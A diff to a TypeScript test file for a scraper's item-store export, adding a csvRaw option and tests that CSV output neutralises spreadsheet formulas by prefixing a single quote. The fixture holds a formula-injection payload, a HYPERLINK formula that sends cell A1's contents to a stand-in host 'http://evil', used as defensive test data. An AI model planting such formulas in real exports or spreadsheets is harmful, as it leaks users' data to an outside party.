@@ -1,7 +1,8 @@
 import { strict as assert } from 'node:assert';
-import { createReadStream, createWriteStream, mkdtempSync, readFileSync, rmSync } from 'node:fs';
+import { execFileSync } from 'node:child_process';
+import { createReadStream, createWriteStream, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
-import { join } from 'node:path';
+import { join, resolve } from 'node:path';
 import { PassThrough, Writable } from 'node:stream';
 import { finished } from 'node:stream/promises';
 import { parseCsv } from '../../src/store/csv';
@@ -38,7 +39,7 @@ function rows(type: string, data: Record<string, unknown>[]): ItemRow[] {
   }));
 }
 
-async function capture(store: ItemStore, format: ExportFormat, opts: { type?: string; meta?: boolean } = {}): Promise<string> {
+async function capture(store: ItemStore, format: ExportFormat, opts: { type?: string; meta?: boolean; csvRaw?: boolean } = {}): Promise<string> {
   const out = new PassThrough();
   const chunks: Buffer[] = [];
   out.on('data', (c: Buffer) => chunks.push(c));
@@ -91,7 +92,8 @@ function suite(name: string, make: () => Promise<ItemStore>) {
     });
 
     it('CSV round-trips every field: RFC 4180 quoting, lists as JSON, null apart from empty', async () => {
-      const text = await capture(store, 'csv', { type: 'product' });
+      // Raw: exactly what was stored, '=SUM(A1)' included (the default neutralises it: see the test below).
+      const text = await capture(store, 'csv', { type: 'product', csvRaw: true });
       assert.ok(text.startsWith('sku,name,price,tags,note,added\r\n'), text.slice(0, 60));
       const decoded = decodeCsv(text, ['tags']);
       assert.deepEqual(decoded, await storedRecords(store, 'product'));
@@ -128,7 +130,7 @@ function suite(name: string, make: () => Promise<ItemStore>) {
       try {
         const path = join(dir, 'out.csv');
         const file = createWriteStream(path, { highWaterMark: 16 });
-        const res = await exportItems(store, { format: 'csv', type: 'product', out: file, pageSize: 1 });
+        const res = await exportItems(store, { format: 'csv', type: 'product', out: file, pageSize: 1, csvRaw: true });
         file.end();
         await finished(file);
         assert.equal(res.items, tricky.length);
@@ -174,5 +176,44 @@ describe('store: export', () => {
       await server?.destroy();
     });
     suite('postgres', () => openStore(server!.url, { task: 'export' }));
+  });
+});
+
+// Issue 35, item 7: a scraped value that is a spreadsheet formula exported as a live formula. The exact value of
+// the issue, through the store's export (what the CLI and the editor's Export share) and the real CLI.
+describe('store: CSV export neutralises formulas (issue 35, item 7)', function () {
+  this.timeout(60_000);
+  const EVIL = '=HYPERLINK("http://evil/?x="&A1,"click")';
+  let dir: string;
+  let store: ItemStore;
+  before(async () => {
+    dir = mkdtempSync(join(tmpdir(), 'cs-export-formula-'));
+    store = await openStore(join(dir, 'items.sqlite'));
+    const cells = [EVIL, '+1+2', '-2+3', '@SUM(A1:A9)', '\tx', '\r=1', 'safe = text', "'quoted"];
+    await store.writeBatch([], rows('cell', cells.map((v, i) => ({ sku: `F-${i}`, v, n: -5 }))), 'ignore');
+    await store.close();
+    store = await openStore(join(dir, 'items.sqlite'));
+  });
+  after(async () => {
+    await store?.close();
+    rmSync(dir, { recursive: true, force: true });
+  });
+
+  it('prefixes a single quote to text starting with = + - @ tab or CR; numbers and other text stay as they are', async () => {
+    const text = await capture(store, 'csv', { type: 'cell' });
+    const lines = text.split('\r\n');
+    assert.equal(lines[1], `F-0,"'=HYPERLINK(""http://evil/?x=""&A1,""click"")",-5`);
+    const decoded = decodeCsv(text, []).map((r) => r.v);
+    assert.deepEqual(decoded, [`'${EVIL}`, "'+1+2", "'-2+3", "'@SUM(A1:A9)", "'\tx", "'\r=1", 'safe = text', "'quoted"]);
+  });
+
+  it('keeps them raw with csvRaw, and the CLI has --csv-raw', async () => {
+    const raw = decodeCsv(await capture(store, 'csv', { type: 'cell', csvRaw: true }), []);
+    assert.equal(raw[0]!.v, EVIL);
+    const task = join(dir, 't.crawl.yaml');
+    writeFileSync(task, 'name: t\nstart: [http://shop.test/]\nrules: [{ name: page }]\nstore: { url: sqlite:items.sqlite }\n');
+    const cli = (extra: string[]) => execFileSync(process.execPath, [resolve('dist/cli.js'), 'export', task, '--format', 'csv', '--type', 'cell', ...extra], { encoding: 'utf8' });
+    assert.equal(cli([]).split('\r\n')[1], `F-0,"'=HYPERLINK(""http://evil/?x=""&A1,""click"")",-5`);
+    assert.equal(cli(['--csv-raw']).split('\r\n')[1], `F-0,"=HYPERLINK(""http://evil/?x=""&A1,""click"")",-5`);
   });
 });
